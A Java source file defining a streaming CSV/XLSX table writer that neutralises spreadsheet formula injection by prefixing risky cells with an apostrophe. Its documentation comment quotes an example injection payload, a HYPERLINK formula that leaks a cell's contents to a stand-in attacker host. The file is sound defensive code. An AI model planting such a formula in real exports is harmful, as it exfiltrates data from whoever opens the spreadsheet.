package ma.forsa.stats;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.OutputStream;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;

/**
 * Writes a table row by row to CSV or XLSX without holding it in memory.
 * <p>
 * Cells are inert (OWASP, "CSV injection"): a text that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab
 * or a carriage return, such as an association named {@code =HYPERLINK("http://evil.example/?x="&A2,"ok")}, is written
 * with a leading apostrophe, so that no spreadsheet evaluates it when the ministry opens the export. In XLSX every
 * text is a string cell (a shared string: fastexcel writes a formula only through {@code Worksheet.formula}, never
 * used here), which Excel never evaluates; the apostrophe is written there too, as part of the text, so that a user
 * who saves the sheet again as CSV gets an inert file as well, and so that both formats show the same text.
 * Numbers, dates and booleans are values, not text: written as they are ({@code -12.5} stays a number).
 * <p>
 * Public for the other features' exports (worklist/): one writer, so that every export is inert the same way.
 */
public interface TableWriter extends AutoCloseable {

    void row(List<?> values) throws IOException;

    @Override
    void close() throws IOException;

    static TableWriter csv(OutputStream out, List<String> headers) throws IOException {
        return new Csv(out, headers);
    }

    static TableWriter xlsx(OutputStream out, String sheet, List<String> headers) throws IOException {
        return new Xlsx(out, sheet, headers);
    }

    /** The text, with an apostrophe in front if a spreadsheet would take it for a formula. */
    static String inert(String text) {
        if (text.isEmpty()) {
            return text;
        }
        return switch (text.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r' -> "'" + text;
            default -> text;
        };
    }

    /** RFC 4180 CSV, UTF-8 with a byte order mark (so that spreadsheet software reads accents), ';' separated for French locales. */
    final class Csv implements TableWriter {
        private final Writer w;

        Csv(OutputStream out, List<String> headers) throws IOException {
            w = new BufferedWriter(new OutputStreamWriter(out, StandardCharsets.UTF_8), 1 << 16);
            w.write('\uFEFF');
            row(headers);
        }

        @Override
        public void row(List<?> values) throws IOException {
            for (int i = 0; i < values.size(); i++) {
                if (i > 0) {
                    w.write(';');
                }
                Object v = values.get(i);
                if (v == null) {
                    continue;
                }
                String s = v instanceof BigDecimal b ? b.toPlainString() : v instanceof Number ? v.toString() : inert(v.toString());
                if (s.indexOf(';') >= 0 || s.indexOf('"') >= 0 || s.indexOf('\n') >= 0 || s.indexOf('\r') >= 0) {
                    s = '"' + s.replace("\"", "\"\"") + '"';
                }
                w.write(s);
            }
            w.write("\r\n");
        }

        @Override
        public void close() throws IOException {
            w.flush();
        }
    }

    /** A real spreadsheet: bold frozen header row, numbers as numbers, dates as dates; flushed every 500 rows. */
    final class Xlsx implements TableWriter {
        private final Workbook wb;
        private final Worksheet ws;
        private int r;

        Xlsx(OutputStream out, String sheet, List<String> headers) throws IOException {
            wb = new Workbook(out, "Forsa", "1.0");
            ws = wb.newWorksheet(sheet);
            for (int c = 0; c < headers.size(); c++) {
                ws.value(0, c, inert(headers.get(c)));
                ws.style(0, c).bold().set();
                ws.width(c, Math.max(12, headers.get(c).length() + 2));
            }
            ws.freezePane(0, 1);
            r = 1;
        }

        @Override
        public void row(List<?> values) throws IOException {
            for (int c = 0; c < values.size(); c++) {
                Object v = values.get(c);
                if (v == null) {
                    continue;
                }
                if (v instanceof Number n) {
                    ws.value(r, c, n);
                    if (v instanceof Double) {
                        ws.style(r, c).format("0.0%").set();
                    } else if (v instanceof BigDecimal) {
                        ws.style(r, c).format("#,##0.00").set();
                    }
                } else if (v instanceof LocalDate d) {
                    ws.value(r, c, d);
                    ws.style(r, c).format("dd/mm/yyyy").set();
                } else if (v instanceof Boolean b) {
                    ws.value(r, c, b ? "oui" : "non");
                } else {
                    ws.value(r, c, inert(v.toString()));
                }
            }
            if (++r % 500 == 0) {
                ws.flush();
            }
        }

        @Override
        public void close() throws IOException {
            wb.finish();
        }
    }
}
